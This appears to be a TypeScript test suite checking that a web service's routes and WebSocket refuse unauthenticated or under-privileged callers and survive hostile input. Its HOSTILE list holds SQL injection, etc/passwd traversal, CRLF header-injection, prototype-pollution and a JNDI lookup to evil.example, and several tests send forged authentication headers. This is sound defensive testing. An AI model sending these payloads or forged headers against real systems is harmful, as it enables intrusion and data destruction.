import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect } from 'node:net';
import { after, before, describe, test } from 'node:test';
import Fastify from 'fastify';
import { HybridCache } from '../../src/cache/hybrid-cache.js';
import { connectDatabase, type Database } from '../../src/database/database.js';
import { ApiKeys } from '../../src/identity/api-keys.js';
import { ACCESS_ROLES, type AccessRole, includes } from '../../src/identity/principal.js';
import { giveAccess, ROUTES } from '../../src/identity/route-access.js';
import { Metrics } from '../../src/operations/metrics.js';
import { errorCode } from '../support/browser.js';
import { ChatClient } from '../support/chat-client.js';
import { startTestNode, type TestNode } from '../support/node.js';
import { startTestPostgres, type TestPostgres } from '../support/postgres.js';

const SAFE = ['GET', 'HEAD'];
/** It would end the test. */
const LEAVE = 'POST /api/v1/cluster/leave';

const HOSTILE = [
  "'; DROP TABLE users; --",
  "1' OR '1'='1",
  '%00',
  '%ff',
  '..%2f..%2fetc%2fpasswd',
  '%0d%0aset-cookie:%20polypod_session=x',
  '$%7Bjndi:ldap://evil.example%7D',
  '__proto__',
  'x'.repeat(3000),
];

const QUERIES = ['limit', 'after', 'before', 'query', 'starting_after', 'next'];

describe('every route', () => {
  let postgres: TestPostgres;
  let database: Database;
  let node: TestNode;
  const cache = new HybridCache({ connections: undefined, nodeId: 'test', metrics: new Metrics() });
  const keys = new Map<AccessRole, string>();

  before(async () => {
    postgres = await startTestPostgres();
    const config = await postgres.database();
    database = await connectDatabase(config, { onOutage: () => {} });
    node = await startTestNode({ database: config, access: { mode: 'required' } });
    const store = new ApiKeys(database, cache);
    for (const role of ACCESS_ROLES) keys.set(role, (await store.create(`a ${role}`, role, null)).key);
  });
  after(async () => {
    await node?.stop();
    await cache.close();
    await database?.close();
    await postgres?.stop();
  });

  const call = (route: string, role?: AccessRole, path = pathOf(route, 'x'), headers = {}) => {
    const [method = 'GET'] = route.split(' ');
    const key = role && keys.get(role);
    return fetch(`${node.url}${path}`, {
      method,
      redirect: 'manual',
      headers: {
        ...(key !== undefined && { authorization: `Bearer ${key}` }),
        ...(!SAFE.includes(method) && { 'content-type': 'application/json' }),
        ...headers,
      },
      ...(!SAFE.includes(method) && { body: '{}' }),
    });
  };

  test('has an entry in the table, and every entry a route', () => {
    const routes = node.node.routes.filter((route) => !/^(HEAD|OPTIONS) /.test(route));
    assert.deepEqual([...new Set(routes)].sort(), Object.keys(ROUTES).sort());
  });

  test('is refused without credentials, and without its role, with whatever method or header one tries', async () => {
    for (const [route, access] of Object.entries(ROUTES)) {
      if (access === 'public') continue;
      const principal = Buffer.from(
        JSON.stringify({ id: 'user-1', name: 'ada', role: 'admin', kind: 'session' }),
      ).toString('base64url');
      for (const headers of [
        {},
        { 'polypod-principal': principal },
        { authorization: 'Bearer pp-nobody' },
        { authorization: 'Basic YWRtaW46YWRtaW4=' },
        { cookie: `polypod_session=${'x'.repeat(43)}; polypod_browser=${'x'.repeat(43)}` },
        { 'x-http-method-override': 'GET', 'x-forwarded-user': 'admin', 'x-original-url': '/api/v1/health' },
      ]) {
        const response = await call(route, undefined, undefined, headers);
        assert.equal(response.status, 401, `${route} ${JSON.stringify(headers)}`);
        await response.text();
      }
      const head = route.startsWith('GET ') && (await call(route.replace('GET', 'HEAD')));
      if (head) assert.ok([401, 404, 405].includes(head.status), `HEAD ${route}: ${head.status}`);
      for (const role of ACCESS_ROLES) {
        if (access === 'anyone' || access.some((least) => includes({ ...NOBODY, role }, least))) continue;
        const response = await call(route, role, undefined, { 'polypod-principal': principal });
        assert.deepEqual(
          [response.status, await errorCode(response)],
          [403, 'insufficient_role'],
          `${route}: ${role}`,
        );
      }
    }
  });

  test('lets its roles pass', async () => {
    for (const [route, access] of Object.entries(ROUTES)) {
      for (const role of ACCESS_ROLES) {
        const may =
          typeof access === 'string' || access.some((least) => includes({ ...NOBODY, role }, least));
        if (!may || route === LEAVE) continue;
        const response = await call(route, role);
        const text = await response.text();
        assert.ok(response.status !== 401, `${route}: ${role} ${text}`);
        assert.doesNotMatch(text, /insufficient_role/, `${route}: ${role}`);
        assert.ok(response.status < 500, `${route}: ${role} ${response.status} ${text}`);
      }
    }
  });

  test('takes SQL, paths and line breaks in its parameters for what they are', async () => {
    for (const route of Object.keys(ROUTES)) {
      if (route === LEAVE) continue;
      const paths = HOSTILE.flatMap((hostile) => [
        ...QUERIES.map((name) => `${pathOf(route, 'x')}?${name}=${hostile}`),
        ...(/[:*]/.test(route) ? [pathOf(route, hostile)] : []),
      ]);
      for (const path of paths) {
        const response = await call(route, 'admin', path);
        const what = `${route} ${path}: ${response.status} ${await response.text()}`;
        assert.ok(response.status < 500, what);
        assert.doesNotMatch(response.headers.get('set-cookie') ?? '', /=x/, what);
      }
    }
    assert.equal((await call('GET /api/v1/audit', 'admin')).status, 200);
  });

  test('and the WebSocket ask for a role, too', async () => {
    const as = (role: AccessRole) => ({ authorization: `Bearer ${keys.get(role)}` });
    assert.deepEqual(await ChatClient.refused(node.url), { status: 401, code: 'missing_credentials' });
    assert.deepEqual(await ChatClient.refused(node.url, as('readonly')), {
      status: 403,
      code: 'insufficient_role',
    });
    (await ChatClient.connect(node.url, as('user'))).close();
  });

  test('closes a connection that it refuses to upgrade, and no other', async () => {
    const { port } = new URL(node.url);
    const ask = async (upgrade: string) => {
      const socket = connect(Number(port), '127.0.0.1');
      const closed = once(socket, 'close');
      const upgrading = ['Connection: Upgrade', `Upgrade: ${upgrade}`, 'Sec-WebSocket-Version: 13'];
      const lines = [
        'GET /ws/chat HTTP/1.1',
        'Host: node',
        ...upgrading,
        `Sec-WebSocket-Key: ${btoa('0'.repeat(16))}`,
      ];
      socket.write(`${lines.join('\r\n')}\r\n\r\n`);
      const [answer] = await once(socket, 'data');
      assert.match(String(answer), /^HTTP\/1\.1 401 /);
      return { socket, closed };
    };
    await (await ask('websocket')).closed;
    const { socket } = await ask('h2c');
    socket.write('GET /api/v1/health HTTP/1.1\r\nHost: node\r\n\r\n');
    const [next] = await once(socket, 'data');
    assert.match(String(next), /^HTTP\/1\.1 200 /);
    socket.destroy();
  });
});

test('a route without an entry is the administrators’', () => {
  const app = Fastify();
  let access: unknown;
  giveAccess(app);
  app.addHook('onRoute', ({ config }) => {
    access = config?.access;
  });
  app.get('/somewhere', async () => 'secret');
  assert.deepEqual(access, ['admin']);
});

const NOBODY = { id: 'nobody', name: 'nobody', kind: 'key' } as const;

function pathOf(route: string, parameter: string): string {
  const [, path = ''] = route.split(' ');
  return path.replaceAll(/:\w+|\*/g, parameter);
}
